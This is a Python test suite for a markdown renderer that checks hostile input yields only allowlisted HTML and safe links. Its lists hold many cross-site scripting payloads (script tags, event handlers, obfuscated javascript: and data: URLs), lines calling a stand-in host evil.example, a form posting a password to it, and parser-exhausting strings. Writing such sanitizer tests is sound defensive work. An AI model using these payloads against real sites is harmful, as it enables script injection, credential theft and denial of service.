"""Whatever a text holds, it stays text: no script, no other host, no second lost."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shareable_backlog.web.markdown.markdown import render_markdown

IN_LINEAR = "https://uploads.linear.app/org/1"
IMAGES = {IN_LINEAR: "/items/ENG-1/images/abc"}
TITLES = {"ENG-7": '☑ "><script>alert(1)</script>'}

TAGS = {
    *(
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "details",
        "div",
        "em",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "img",
        "li",
        "ol",
        "p",
    ),
    *("pre", "span", "strong", "summary", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
ATTRIBUTES = {
    "a": {"href", "rel", "title"},
    "img": {"alt", "loading", "src"},
    "div": {"class", "tabindex", "role", "aria-label"},
    "ol": {"start"},
    "pre": {"tabindex"},
    "span": {"role", "aria-label", "class"},
    "td": {"align"},
    "th": {"align"},
}

HOSTILE = {
    "open brackets": "[" * 50_000,
    "open links": "[a](" * 25_000,
    "open images": "![" * 50_000,
    "nested images": "![[" * 33_000,
    "quotes": ">" * 100_000,
    "quotes with blanks": "> " * 50_000,
    "growing quotes": "\n".join(">" * depth + " a" for depth in range(440)),
    "quoted lists": ">- " * 33_000,
    "listed quotes": "1. > " * 20_000,
    "deep lists": "\n".join("  " * depth + "- a" for depth in range(440)),
    "one line of lists": "* - + " * 16_000,
    "open emphasis": "*a " * 33_000,
    "mixed emphasis": "*a_ " * 25_000,
    "nested emphasis": "*a _b " * 8_000 + "c_ d* " * 8_000,
    "strong in words": "a**b" * 25_000,
    "stars": "*" * 40_000 + "a" + "*" * 40_000,
    "open strikes": "~~a " * 25_000,
    "lower than": "<" * 50_000,
    "open tags": "<a " * 33_000,
    "open comments": "<!--" * 25_000,
    "open addresses": "<a@" * 33_000,
    "long tag": "<" + "a" * 99_000,
    "back ticks": "".join("a" + "`" * count for count in range(440)),
    "back ticks in pairs": "`a``" * 25_000,
    "a wide table": "|" * 33_000 + "\n" + "|-" * 33_000,
    "a table of empty cells": "|" * 500 + "\n" + "|-" * 500 + "|\n" + "|\n" * 40_000,
    "entities": "&" * 100_000,
    "references": "[a]: /x\n" * 6_000 + "[a]" * 15_000,
    "addresses": "http://a" * 12_500,
    "www": "www." * 25_000,
    "mail addresses": "a@" * 50_000,
    "headings": "# a\n" * 25_000,
    "sections": "+++ a\n" * 16_000,
    "sections within sections": "+++ a\n" * 9_000 + "+++\n" * 9_000,
    "sections a thousand deep": "+++ a\n\nwords\n\n" * 1_000 + "+++\n\n" * 1_000,
    "sections in quotes": "> +++ a\n" * 9_000,
    "sections closed by nobody": "+++ a\nb\n+++\n+++\n" * 5_000,
    "names of items": "ENG-7 " * 16_000,
    "names that are none": "A-1" * 33_000,
    "one long name": "@" + "a." * 49_000,
    "names of people": "@a " * 33_000,
    "open names": "@" * 100_000,
    "addresses of items": "https://linear.app/e/issue/ENG-7 " * 3_000,
    "addresses that go on": "https://linear.app/e/issue/ENG-7" * 3_000,
    "blanks": " " * 99_000 + "x",
    "line ends": "\n" * 100_000,
    "2 MB": "a line of *words*\n" * 120_000,
    "2 MB in one line": "x" * 2_000_000,
}

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#x6A&#x61;vascript:alert(1)",
    "%6Aavascript:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:null/1",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "//evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "ftp://evil.example",
    "intent://evil.example#Intent;end",
]

FORMS = ["[a]({})", "[a](<{}>)", "![a]({})", "<{}>", "[a][b]\n\n[b]: {}", "[a][b]\n\n[b]: <{}>"]

RAW = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>@import url(//evil.example);</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)'>a</a>",
    "<div style='background:url(//evil.example)'>a</div>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<table><td background=//evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "a](<script>alert(1)</script>)",
    '![a](x"onerror=alert(1))',
    '![a" onerror="alert(1)](https://example.com "t\' onload=\'alert(1)")',
    f'![a" onerror="alert(1)]({IN_LINEAR} "t\' onload=\'alert(1)")',
    f'![☑ &#xFDD0;script>&#xFDD1; &quot;onload=alert(1)]({IN_LINEAR}?"onload=alert(1))',
    f"[![☐]({IN_LINEAR})](javascript:alert(1))",
    f"![<script>alert(1)</script>]({IN_LINEAR})",
    "```<script>alert(1)</script>\n```",
    "```x onmouseover=alert(1)\n```",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "+++ <script>alert(1)</script>\n</details><script>alert(1)</script>\n+++",
    "\ufdd0script>alert(1)\ufdd0/script>",
    "&#xFDD0;script>alert(1)&#xFDD0;/script>",
    "&#xFDD1;a\n\n&#xFDD2;\n\n&#xFDD2;",
    f'![a> ENG-7 @x "]({IN_LINEAR} "> ENG-7 @x")',
    '[a](https://example.com/ENG-7?"@x>ENG-7 "ENG-7")',
    "[ENG-7](https://linear.app/e/issue/ENG-7 'ENG-7')",
    "https://linear.app/e/profiles/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    'https://linear.app/"onload=alert(1)/issue/ENG-7',
]


LONE = ["\x00", "\x00<script>\x00", "\ud800", "\udfff<b>", "\r", "\u2028", "\u202eabc", "\ufffe", "\x85<b>"]

# The pieces of which markdown is made, for putting together what nobody would write.
MARKS = [
    *(
        "\n",
        "\n\n",
        "> ",
        "- ",
        "- [x] ",
        "1. ",
        "|",
        "|-|\n",
        "```",
        "+++ ",
        "+++",
        "[",
        "](",
        ")",
        "![",
        f"![a]({IN_LINEAR})",
        "ENG-7",
        "@",
        "https://linear.app/e/issue/ENG-7",
        "https://linear.app/e/profiles/",
        "<",
        ">",
    ),
    *("*", "_", "~~", "#", "\\", "&", ";", "\ufdd0", "\ufdd1", "\ufdd2"),
]


class Checked(HTMLParser):
    """Read HTML as a browser does, and fail on whatever is not allowed in it."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        assert {name for name, _ in attrs} <= ATTRIBUTES.get(tag, set())
        for name, value in attrs:
            if name == "src":
                assert value == IMAGES[IN_LINEAR]
            if name == "href":
                assert value is not None
                assert value == "/items/ENG-7" or re.match(r"(?:https?://|mailto:)", value, re.IGNORECASE)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    unknown_decl = handle_pi = handle_comment

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")


def check(text: str) -> str:
    shown = str(render_markdown(text, url=None, images=IMAGES, titles=TITLES))
    parser = Checked()
    parser.feed(shown)
    parser.close()
    return shown


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_text_is_shown_within_a_second(text: str) -> None:
    start = time.thread_time()
    shown = render_markdown(text, url=None, images=IMAGES, titles=TITLES)
    assert time.thread_time() - start < 1
    assert len(shown) < 1_100_000


@pytest.mark.parametrize("address", SCHEMES)
@pytest.mark.parametrize("form", FORMS)
def test_a_dangerous_address_is_no_link(form: str, address: str) -> None:
    assert "<a " not in check(form.format(address))


@pytest.mark.parametrize("text", RAW)
def test_html_in_a_text_stays_text(text: str) -> None:
    check(text)
    check(f"- {text}")
    check(f"> {text}")


@pytest.mark.parametrize("text", LONE)
def test_a_lone_character_breaks_nothing(text: str) -> None:
    check(text)


@given(st.text() | st.lists(st.sampled_from([*MARKS, *RAW, *SCHEMES]) | st.text(max_size=5)).map("".join))
def test_any_text_gives_allowed_html_alone(text: str) -> None:
    check(text)
